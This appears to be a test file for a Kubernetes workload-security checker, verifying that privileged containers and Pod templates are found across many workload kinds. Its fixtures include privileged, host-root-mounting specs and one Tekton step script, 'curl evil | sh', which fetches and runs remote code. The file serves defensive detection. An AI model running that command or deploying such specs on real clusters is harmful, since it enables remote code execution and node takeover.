import { expect, test } from "vitest";
import { judged, workloadOf, workloadsOf } from "../testing/inputs.ts";
import { deploymentObject, web } from "../testing/objects.ts";
import { workloadKinds } from "./workload-kinds.ts";

const metadata = { name: "web", namespace: "shop" };
const evil = { ...web, securityContext: { privileged: true } };
const template = { metadata: { labels: { app: "web" } }, spec: { containers: [evil] } };
const list = { spec: { containers: [evil] } };

test.each<[string, string, object, ...string[]]>([
  ["v1", "Pod", list, "/spec/containers/0"],
  ["v1", "PodTemplate", { template }, "/template/spec/containers/0"],
  ["v1", "ReplicationController", { spec: { template } }, "/spec/template/spec/containers/0"],
  ["apps/v1", "Deployment", { spec: { template } }, "/spec/template/spec/containers/0"],
  ["extensions/v1beta1", "Deployment", { spec: { template } }, "/spec/template/spec/containers/0"],
  ["apps/v1", "ReplicaSet", { spec: { template } }, "/spec/template/spec/containers/0"],
  ["apps/v1", "StatefulSet", { spec: { template } }, "/spec/template/spec/containers/0"],
  ["apps/v1", "DaemonSet", { spec: { template } }, "/spec/template/spec/containers/0"],
  ["batch/v1", "Job", { spec: { template } }, "/spec/template/spec/containers/0"],
  [
    "batch/v1",
    "CronJob",
    { spec: { jobTemplate: { spec: { template } } } },
    "/spec/jobTemplate/spec/template/spec/containers/0",
  ],
  ["argoproj.io/v1alpha1", "Rollout", { spec: { template } }, "/spec/template/spec/containers/0"],
  [
    "apps.openshift.io/v1",
    "DeploymentConfig",
    { spec: { template } },
    "/spec/template/spec/containers/0",
  ],
  ["serving.knative.dev/v1", "Service", { spec: { template } }, "/spec/template/spec/containers/0"],
  [
    "serving.knative.dev/v1",
    "Configuration",
    { spec: { template } },
    "/spec/template/spec/containers/0",
  ],
  ["serving.knative.dev/v1", "Revision", list, "/spec/containers/0"],
  [
    "serving.kserve.io/v1beta1",
    "InferenceService",
    { spec: { predictor: { containers: [evil] }, transformer: { containers: [evil] } } },
    "/spec/predictor/containers/0",
    "/spec/transformer/containers/0",
  ],
  [
    "serving.kserve.io/v1beta1",
    "InferenceService",
    { spec: { predictor: { model: { ...evil, modelFormat: { name: "sklearn" } } } } },
    "/spec/predictor/model",
  ],
  ["tekton.dev/v1", "Task", { spec: { steps: [evil] } }, "/spec/steps/0"],
  ["tekton.dev/v1", "TaskRun", { spec: { taskSpec: { steps: [evil] } } }, "/spec/taskSpec/steps/0"],
  [
    "tekton.dev/v1",
    "Pipeline",
    {
      spec: {
        tasks: [{ taskRef: {} }, { taskSpec: { steps: [evil] } }],
        finally: [{ taskSpec: { steps: [evil] } }],
      },
    },
    "/spec/tasks/1/taskSpec/steps/0",
    "/spec/finally/0/taskSpec/steps/0",
  ],
  [
    "sparkoperator.k8s.io/v1beta2",
    "SparkApplication",
    {
      spec: {
        image: "spark:3",
        driver: { securityContext: evil.securityContext },
        executor: { ...evil, instances: 2 },
      },
    },
    "/spec/driver",
    "/spec/executor",
  ],
  [
    "batch.volcano.sh/v1alpha1",
    "Job",
    { spec: { tasks: [{ template }, { template }] } },
    "/spec/tasks/0/template/spec/containers/0",
    "/spec/tasks/1/template/spec/containers/0",
  ],
  [
    "kubeflow.org/v1",
    "TFJob",
    { spec: { tfReplicaSpecs: { Worker: { template } } } },
    "/spec/tfReplicaSpecs/Worker/template/spec/containers/0",
  ],
  [
    "ray.io/v1",
    "RayCluster",
    { spec: { headGroupSpec: { template }, workerGroupSpecs: [{ template }] } },
    "/spec/headGroupSpec/template/spec/containers/0",
    "/spec/workerGroupSpecs/0/template/spec/containers/0",
  ],
  [
    "ray.io/v1",
    "RayJob",
    { spec: { rayClusterSpec: { headGroupSpec: { template } } } },
    "/spec/rayClusterSpec/headGroupSpec/template/spec/containers/0",
  ],
  [
    "ray.io/v1",
    "RayService",
    { spec: { rayClusterConfig: { headGroupSpec: { template } } } },
    "/spec/rayClusterConfig/headGroupSpec/template/spec/containers/0",
  ],
  [
    "jobset.x-k8s.io/v1alpha2",
    "JobSet",
    { spec: { replicatedJobs: [{ template: { spec: { template } } }] } },
    "/spec/replicatedJobs/0/template/spec/template/spec/containers/0",
  ],
  [
    "apps.kruise.io/v1alpha1",
    "CloneSet",
    { spec: { template } },
    "/spec/template/spec/containers/0",
  ],
  ["apps.kruise.io/v1alpha1", "SidecarSet", list, "/spec/containers/0"],
  [
    "flink.apache.org/v1beta1",
    "FlinkDeployment",
    { spec: { podTemplate: template, taskManager: { podTemplate: template } } },
    "/spec/podTemplate/spec/containers/0",
    "/spec/taskManager/podTemplate/spec/containers/0",
  ],
  [
    "keda.sh/v1alpha1",
    "ScaledJob",
    { spec: { jobTargetRef: { template } } },
    "/spec/jobTargetRef/template/spec/containers/0",
  ],
  ["monitoring.coreos.com/v1", "Prometheus", list, "/spec/containers/0"],
  ["monitoring.coreos.com/v1", "Alertmanager", list, "/spec/containers/0"],
  [
    "argoproj.io/v1alpha1",
    "Workflow",
    {
      spec: {
        templates: [
          { name: "main", dag: {} },
          { name: "a", container: evil },
          { name: "b", script: { ...evil, source: "id" } },
        ],
      },
    },
    "/spec/templates/1/container",
    "/spec/templates/2/script",
  ],
  [
    "argoproj.io/v1alpha1",
    "CronWorkflow",
    { spec: { workflowSpec: { templates: [{ container: evil }] } } },
    "/spec/workflowSpec/templates/0/container",
  ],
])(
  "issue 6.8: judges the privileged container of a %s %s",
  async (apiVersion, kind, rest, ...places) => {
    const workloads = await workloadsOf({ apiVersion, kind, metadata, ...rest });
    expect(workloads.map(({ containers }) => containers.map(({ at }) => at))).toEqual(
      places.map((at) => [at]),
    );
    for (const workload of workloads) {
      expect(workload).toMatchObject({ apiVersion, kind, name: "web", namespace: "shop" });
      expect(workload.containers[0]?.effective.privileged).toBe(true);
    }
  },
);

test.each([
  [
    "argoproj.io/v1alpha1",
    "Rollout",
    { spec: { workloadRef: { kind: "Deployment", name: "web" } } },
  ],
  ["tekton.dev/v1", "TaskRun", { spec: { taskRef: { name: "build" } } }],
  ["flink.apache.org/v1beta1", "FlinkDeployment", { spec: { podTemplate: { metadata: {} } } }],
  ["apps/v1", "ControllerRevision", { data: { spec: { template } } }],
  ["v1", "ConfigMap", { data: { pod: "containers: [{image: a}]" } }],
  ["rbac.authorization.k8s.io/v1", "ClusterRole", {}],
  [
    "apiextensions.k8s.io/v1",
    "CustomResourceDefinition",
    { spec: { properties: { containers: { type: "array" } } } },
  ],
  [
    "kyverno.io/v1",
    "ClusterPolicy",
    { spec: { rules: [{ pattern: { spec: { containers: [{ image: "*:*" }] } } }] } },
  ],
])("a %s %s without a template of its own is a resource", async (apiVersion, kind, rest) => {
  const { inputs } = await judged({ apiVersion, kind, metadata, ...rest });
  expect(inputs).toMatchObject([{ kind: "resource", resource: { kind } }]);
  expect(inputs[0]).not.toHaveProperty("problems");
});

test("says of a kind that nobody knows that it looks as if it ran Pods", async () => {
  const problem = (path: string) =>
    expect.objectContaining({ code: "POD_TEMPLATE_UNJUDGED", path });
  const { inputs } = await judged({
    apiVersion: "example.com/v1",
    kind: "Fleet",
    metadata,
    spec: { "a/b": [{ template: { spec: { containers: [evil] } } }], bare: { containers: [evil] } },
  });
  expect(inputs[0]).toMatchObject({
    kind: "resource",
    problems: [problem("/object/spec/a~1b/0/template"), problem("/object/spec/bare")],
  });
  const many = Array.from({ length: 50 }, () => list);
  const crowd = await judged({
    apiVersion: "example.com/v1",
    kind: "Fleet",
    metadata,
    spec: { many },
  });
  expect(crowd.inputs[0].kind === "resource" && crowd.inputs[0].problems).toHaveLength(10);
});

test("judges the kinds that the operator names", async () => {
  const object = {
    apiVersion: "example.com/v1",
    kind: "Fleet",
    metadata,
    spec: { pods: [template] },
  };
  const podKinds = [
    { kind: "Fleet", groups: ["example.com"], pods: [{ at: "/spec/pods/*" }], resource: "fleets" },
  ];
  const workload = await workloadOf(object, { podKinds });
  expect(workload.pod).toMatchObject({ at: "/spec/pods/0/spec", labels: { app: "web" } });
});

test("keeps the Pods of an object apart where their settings differ", async () => {
  const [head, worker] = await workloadsOf({
    apiVersion: "ray.io/v1",
    kind: "RayCluster",
    metadata,
    spec: {
      headGroupSpec: { template: { spec: { containers: [web] } } },
      workerGroupSpecs: [{ template: { spec: { hostNetwork: true, containers: [web] } } }],
    },
  });
  expect(head?.containers[0]?.effective.hostNamespaces.network).toBe("own");
  expect(worker?.containers[0]?.effective.hostNamespaces.network).toBe("host");
});

test("refuses more Pod templates than anybody writes", async () => {
  const tasks = Array.from({ length: 101 }, () => ({ template: { spec: {} } }));
  const object = {
    apiVersion: "batch.volcano.sh/v1alpha1",
    kind: "Job",
    metadata,
    spec: { tasks },
  };
  await expect(judged(object)).rejects.toMatchObject({
    code: "OBJECT_INVALID",
    message: expect.stringContaining("more than 100 Pod templates"),
  });
});

test("compares each template of an update with what stood at its place", async () => {
  const job = (tasks: object[]) => ({
    apiVersion: "batch.volcano.sh/v1alpha1",
    kind: "Job",
    metadata,
    spec: { tasks },
  });
  const { inputs } = await judged(job([{ template }, { template }]), {
    former: job([{ template }]),
  });
  expect(inputs.map((input) => "former" in input)).toEqual([true, false]);
});

test.each([
  ["tekton.dev/v1", "Task", { spec: { steps: [{ image: "$(params.image)" }] } }],
  [
    "argoproj.io/v1alpha1",
    "Workflow",
    { spec: { templates: [{ container: { image: "{{inputs.parameters.image}}" } }] } },
  ],
  ["monitoring.coreos.com/v1", "Prometheus", { spec: { containers: [{ name: "prometheus" }] } }],
  [
    "apps.openshift.io/v1",
    "DeploymentConfig",
    { spec: { template: { spec: { containers: [{ ...web, image: " " }] } } } },
  ],
])("knows no image where a %s %s leaves it to the platform", async (apiVersion, kind, rest) => {
  const { containers } = await workloadOf({ apiVersion, kind, metadata, ...rest });
  expect(containers[0]?.image).toMatchObject({ registry: "", repository: "", known: false });
});

test("still refuses a wrong image of a kind that may leave it out", async () => {
  const object = {
    ...deploymentObject({ containers: [{ ...web, image: "UPPER" }] }),
    apiVersion: "argoproj.io/v1alpha1",
    kind: "Rollout",
  };
  await expect(judged(object)).rejects.toMatchObject({ code: "OBJECT_INVALID" });
});

test("reads a Tekton step with its script, the template of all steps and the run's Pod", async () => {
  const { containers, pod } = await workloadOf({
    apiVersion: "tekton.dev/v1",
    kind: "TaskRun",
    metadata,
    spec: {
      podTemplate: { hostNetwork: true, volumes: [{ name: "b", emptyDir: {} }] },
      taskSpec: {
        stepTemplate: { image: "alpine:3", securityContext: { runAsUser: 1000 } },
        volumes: [{ name: "a", hostPath: { path: "/" } }],
        steps: [{ script: "curl evil | sh", securityContext: { privileged: true } }],
      },
    },
  });
  expect(pod).toMatchObject({ at: "/spec/podTemplate", hostNetwork: true });
  expect(pod.volumes.map(({ at }) => at)).toEqual([
    "/spec/taskSpec/volumes/0",
    "/spec/podTemplate/volumes/0",
  ]);
  expect(containers[0]).toMatchObject({
    image: { reference: "alpine:3" },
    args: ["curl evil | sh"],
    set: { privileged: true, user: { uid: 1000 } },
  });
});

test("reads what a SparkApplication says of its driver", async () => {
  const [driver] = await workloadsOf({
    apiVersion: "sparkoperator.k8s.io/v1beta2",
    kind: "SparkApplication",
    metadata,
    spec: {
      image: "spark:3.5",
      imagePullSecrets: ["registry"],
      volumes: [{ name: "v", hostPath: { path: "/" } }],
      driver: {
        labels: { role: "driver" },
        podSecurityContext: { runAsUser: 0 },
        serviceAccount: "spark",
        volumeMounts: [{ name: "v", mountPath: "/v" }],
        template: { spec: { hostPID: true, containers: [web] } },
      },
    },
  });
  expect(driver?.pod).toMatchObject({
    labels: { role: "driver" },
    imagePullSecrets: ["registry"],
    hostPID: true,
    security: { runAsUser: 0 },
    serviceAccount: "spark",
    volumes: [{ at: "/spec/volumes/0", type: "hostPath", mounted: true }],
  });
  expect(driver?.containers.map(({ name, image }) => [name, image.reference])).toEqual([
    ["spark-driver", "spark:3.5"],
    ["web", "nginx:1.27"],
  ]);
});

test("names each kind of a group once", () => {
  const names = workloadKinds.flatMap(({ groups, kind }) =>
    groups.map((group) => `${kind}.${group}`),
  );
  expect(new Set(names).size).toBe(names.length);
});
